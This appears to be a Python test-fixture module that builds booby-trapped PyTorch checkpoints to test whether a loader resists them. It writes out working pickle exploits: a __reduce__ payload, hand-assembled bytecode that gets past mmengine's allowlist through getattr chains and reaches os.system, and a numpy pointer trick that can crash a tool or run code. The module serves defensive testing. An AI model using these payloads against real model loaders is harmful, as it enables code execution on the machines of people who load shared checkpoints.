"""Checkpoints that run code, or crash, where a loader trusts them."""
import torch

from tests.runtime.pickles import REDUCE, checkpoint, named, value, zipped


class RunsCode:
    """A pickle may call any function to restore an object."""

    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return open, (str(self.path), 'w')


def classic(path, writes):
    torch.save(dict(state_dict={}, meta=RunsCode(writes)), path)


def through_getattr(path, writes):
    """Nothing but what mmengine counts as harmless, and yet it runs a command.

    Attributes of `HistoryBuffer.update` lead to its module's globals and on to `os`; then `np` in these globals becomes
    an object whose `array` is `os.system`, and HistoryBuffer(command, command) calls np.array(command).
    """
    def name(module, what):
        return f'c{module}\n{what}\n'.encode()

    def text(string):
        return b'X' + len(string).to_bytes(4, 'little') + string.encode()

    def attribute(of, what):
        return name('__builtin__', 'getattr') + of + text(what) + b'\x86R'

    buffer = name('mmengine.logging.history_buffer', 'HistoryBuffer')
    modules = attribute(attribute(attribute(b'h\0', 'warnings'), 'sys'), 'modules')
    rewrite(path, b'\x80\2(' + buffer + b')\x81q\0' + attribute(attribute(buffer, 'update'), '__globals__') + b'q\1b'
            + buffer + b')\x81q\2' + modules + b'b'
            + buffer + b')\x81q\3}' + text('array') + attribute(attribute(b'h\2', 'os'), 'system') + b'sb'
            + b'h\1' + text('np') + b'h\3s' + buffer + 2 * text(f'touch {writes}') + b'\x86Rt.')


def rewrite(path, pickle):
    """A checkpoint with the tensors that `path` has, if any, and another pickle."""
    path.write_bytes(zipped(pickle, path.read_bytes() if path.exists() else None))


def pointers(path, writes):
    """What numpy follows to addresses of the file's choice, which crashed a tool, or ran code."""
    path.write_bytes(zipped(checkpoint(named('numpy.ndarray') + value(((4,), 'O', b'\x41' * 32)) + REDUCE)))
